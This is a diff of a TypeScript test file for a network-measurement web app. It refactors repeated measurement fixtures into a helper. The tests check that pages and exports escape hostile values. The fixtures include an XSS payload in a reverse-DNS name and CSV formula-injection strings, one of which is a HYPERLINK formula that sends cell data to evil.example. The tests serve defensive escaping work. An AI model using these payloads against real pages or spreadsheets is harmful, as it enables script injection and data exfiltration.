@@ -76,6 +76,16 @@ function trace(id: string, agentId: string, target: string, hops: Hop[]): TraceV
 const options = TraceOptions.parse({});
 const agents = new Map<string, AgentView>();
 
+/** A finished measurement of 198.18.9.2 made of these traces. */
+const measurementOf = (traces: TraceView[], id = "m1"): MeasurementView => ({
+  id,
+  target: "198.18.9.2",
+  status: "done",
+  options,
+  created: "2026-11-23T07:00:00.000Z",
+  traces,
+});
+
 /** An online PoP as the agents API lists it (for the mesh). */
 const popView = (id: string, region: string): AgentView => ({
   ...descriptorOf(id, {
@@ -129,17 +139,10 @@ function expectEscaped(html: string) {
 
 describe("pages escape what they display", () => {
   it("a measurement page prints hostile reverse-DNS names as text", () => {
-    const m: MeasurementView = {
-      id: "m1",
-      target: "198.18.9.2",
-      status: "done",
-      options,
-      created: "2026-11-23T07:00:00.000Z",
-      traces: [
-        trace("t1", "fra", "198.18.9.2", forwardHops),
-        trace("t2", "sin", "198.18.9.2", forwardHops.slice(1)),
-      ],
-    };
+    const m = measurementOf([
+      trace("t1", "fra", "198.18.9.2", forwardHops),
+      trace("t2", "sin", "198.18.9.2", forwardHops.slice(1)),
+    ]);
     for (const html of [
       render(<MeasurementPage measurement={m} agents={agents} />),
       render(<ComparePage measurement={m} agents={agents} />),
@@ -153,14 +156,7 @@ describe("pages escape what they display", () => {
   });
 
   it("the text and CSV exports are the tracer's report and CSV, one block per PoP", () => {
-    const m: MeasurementView = {
-      id: "m1",
-      target: "198.18.9.2",
-      status: "done",
-      options,
-      created: "2026-11-23T07:00:00.000Z",
-      traces: [trace("t1", "fra", "198.18.9.2", forwardHops)],
-    };
+    const m = measurementOf([trace("t1", "fra", "198.18.9.2", forwardHops)]);
     const text = textExport(m);
     expect(text).toContain("HOST: fra");
     expect(text).toMatch(/^ {2}3\.\|-- "><img src=x onerror=alert\(2\)> +30\.0%/m);
@@ -173,19 +169,15 @@ describe("pages escape what they display", () => {
 
   it("the CSV export writes formula-looking names and PoP ids as text a spreadsheet will not run", () => {
     const formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")';
-    const m: MeasurementView = {
-      id: "m2",
-      target: "198.18.9.2",
-      status: "done",
-      options,
-      created: "2026-11-23T07:00:00.000Z",
-      traces: [
+    const m = measurementOf(
+      [
         trace("t1", "-fra", "198.18.9.2", [
           hop(1, "198.18.1.1", { name: formula }),
           hop(2, "198.18.9.2", { name: "@SUM(1+1)" }),
         ]),
       ],
-    };
+      "m2",
+    );
     const [, first, second] = csvExport(m).trimEnd().split("\n");
     expect(first).toMatch(/^"'-fra",/);
     expect(first).toContain(`,1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")",`);
@@ -613,14 +605,7 @@ describe("a measurement page shows what the engine did beyond mtr", () => {
     followUps,
     adaptive: { extraCycles: 5, extraProbes: 15, maxExtraCycles: 30, decided: true },
   };
-  const m: MeasurementView = {
-    id: "m1",
-    target: "198.18.9.2",
-    status: "done",
-    options,
-    created: "2026-11-23T07:00:00.000Z",
-    traces: [t],
-  };
+  const m = measurementOf([t]);
   const html = render(<MeasurementPage measurement={m} agents={agents} />);
 
   it("lists the follow-up probes with kind, target:port, result and purpose, and the proof in the finding", () => {
